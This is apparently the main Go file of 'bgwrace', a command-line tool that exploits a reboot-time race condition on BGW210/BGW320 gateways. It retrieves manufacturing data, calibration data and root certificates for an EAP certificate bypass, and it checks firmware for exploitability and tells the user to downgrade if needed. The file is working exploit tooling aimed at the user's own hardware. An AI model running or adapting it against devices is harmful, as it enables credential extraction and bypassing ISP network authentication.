package bgwrace

import (
	"context"
	"fmt"
	"os"
	"os/signal"
	"path"
	"path/filepath"

	"github.com/alexflint/go-arg"
	"github.com/fatih/color"
	log "github.com/sirupsen/logrus"
	"golang.org/x/time/rate"

	"github.com/thezakman/bgwrace/pkg/bgw"
	"github.com/thezakman/bgwrace/pkg/certs"
	"github.com/thezakman/bgwrace/pkg/probe"
	"github.com/thezakman/bgwrace/pkg/race"
	"github.com/thezakman/bgwrace/pkg/rawhttp"
)

const version = "1.0.2"

// Command-line arguments and help
type arguments struct {
	Host        string     `arg:"--host" help:"address of the gateway" default:"192.168.1.254"`
	Port        int        `arg:"--port" help:"HTTP port of the gateway" default:"80"`
	OutDir      string     `arg:"--out-dir,-o" help:"directory to write the retrieved files to" placeholder:"DIR" default:"."`
	ForceModel  *bgw.Model `arg:"--force-model,-m" help:"skip detection and force the gateway model (BGW210 or BGW320)"`
	Parallelism int        `arg:"--parallelism,-p" help:"number of concurrent race workers" default:"2"`
	Rate        float64    `arg:"--rate,-r" help:"cap on race requests per second across all workers (0 = unlimited)" default:"0"`
	Verbosity   int        `arg:"-v" help:"how much noise to make (0 = quiet; 1 = debug; 2 = trace)" default:"0"`
}

func (arguments) Version() string {
	return getBanner()
}

var args arguments

// getBanner returns the main banner
func getBanner() string {
	return color.New(color.FgBlue, color.Bold).Sprint("📡 bgwrace v"+version) +
		" · " + color.New(color.FgWhite, color.Bold).Sprint("BGW210/BGW320 mfg & calibration retrieval (for EAP certificate bypass)")
}

// good and bad print operator-facing status lines
func good(s string) {
	fmt.Println(color.GreenString("[+]"), s)
}

func bad(s string) {
	fmt.Println(color.HiRedString("[-]"), s)
}

// Run kicks off a retrieval from the command line
func Run() {
	arg.MustParse(&args)

	log.SetFormatter(&log.TextFormatter{
		DisableLevelTruncation: true,
		DisableTimestamp:       true,
	})
	if args.Verbosity > 1 {
		log.SetLevel(log.TraceLevel)
	} else if args.Verbosity > 0 {
		log.SetLevel(log.DebugLevel)
	} else {
		log.SetLevel(log.WarnLevel)
	}

	if fi, err := os.Stat(args.OutDir); err != nil || !fi.IsDir() {
		bad(fmt.Sprintf("Output directory %s does not exist.", args.OutDir))
		os.Exit(1)
	}

	fmt.Println(getBanner())
	good("----------------------------------------")
	good("Connect your machine directly to LAN1 on the BGW.")
	good("Ensure no other interface on your machine is configured for the 192.168.1/24 subnet.")
	good("Configure the IP address of the NIC on your machine to:")
	good("IP: 192.168.1.11  Subnet: 255.255.255.0  Gateway: 192.168.1.254")
	good("----------------------------------------")
	good("Press Ctrl+C to exit.")
	good("----------------------------------------")

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	client := rawhttp.NewClient()
	prober := probe.New(client)

	good("Waiting for the BGW to come online...")
	if err := prober.WaitOnline(ctx, args.Host, args.Port); err != nil {
		bad("Interrupted while waiting for the BGW.")
		os.Exit(1)
	}
	good("BGW is online. Determining eligibility...")

	exploitable, err := prober.Exploitable(args.Host, args.Port)
	if err != nil {
		log.WithFields(log.Fields{"err": err}).Fatal("Could not determine exploitability status")
	}
	if !exploitable {
		bad("Firmware not affected. Downgrade to an earlier firmware version.")
		os.Exit(1)
	}

	model, err := resolveModel(prober)
	if err != nil {
		bad(err.Error())
		os.Exit(1)
	}

	good(fmt.Sprintf("Firmware compatible. Configured model: %s", model))
	good("----------------------------------------")
	good(fmt.Sprintf("*** REBOOT THE %s NOW ***", model))
	good("(This may take up to 3 minutes. After 2 minutes, keep this running and reboot the BGW with the red button on the back.)")
	good("----------------------------------------")

	var limiter *rate.Limiter
	if args.Rate > 0 {
		limiter = rate.NewLimiter(rate.Limit(args.Rate), 1)
	}
	dl := race.Downloader{Fetcher: client, Workers: args.Parallelism, Limiter: limiter}

	artifactPath := model.ArtifactPath()
	payload, err := dl.Run(ctx, args.Host, args.Port, artifactPath)
	if err != nil {
		bad("Download failed.")
		os.Exit(1)
	}

	fname := path.Base(artifactPath)
	if err := writeArtifact(fname, payload); err != nil {
		log.WithFields(log.Fields{"file": fname, "err": err}).Fatal("Unable to write artifact")
	}
	good(fmt.Sprintf("Download successful. File written to %s", fname))

	if model == bgw.BGW210 {
		blob := bgw.CalibrationBlob(payload)
		if blob == nil {
			bad(fmt.Sprintf("mfg.dat too short to contain calibration data (%d bytes).", len(payload)))
			os.Exit(1)
		}
		if err := writeArtifact(bgw.CalibrationFile, blob); err != nil {
			log.WithFields(log.Fields{"file": bgw.CalibrationFile, "err": err}).Fatal("Unable to write artifact")
		}
		good(fmt.Sprintf("%s calibration data written to %s", model, bgw.CalibrationFile))
	}

	pipeline := certs.Pipeline{Fetcher: client}
	n, err := pipeline.Harvest(args.Host, args.Port, writeArtifact)
	if err != nil {
		bad(fmt.Sprintf("Failed to retrieve root certificates: %v", err))
		os.Exit(1)
	}
	good(fmt.Sprintf("Retrieved %d root certificates.", n))
}

// resolveModel returns the forced model or falls back to fingerprinting.
func resolveModel(p *probe.Prober) (bgw.Model, error) {
	if args.ForceModel != nil {
		return *args.ForceModel, nil
	}
	model, ok := p.DetectModel(args.Host, args.Port)
	if !ok {
		return "", fmt.Errorf("Failed to detect model. Please specify the model with the --force-model flag.")
	}
	return model, nil
}

// writeArtifact stores one retrieved file under the output directory.
func writeArtifact(name string, data []byte) error {
	return os.WriteFile(filepath.Join(args.OutDir, name), data, 0644)
}
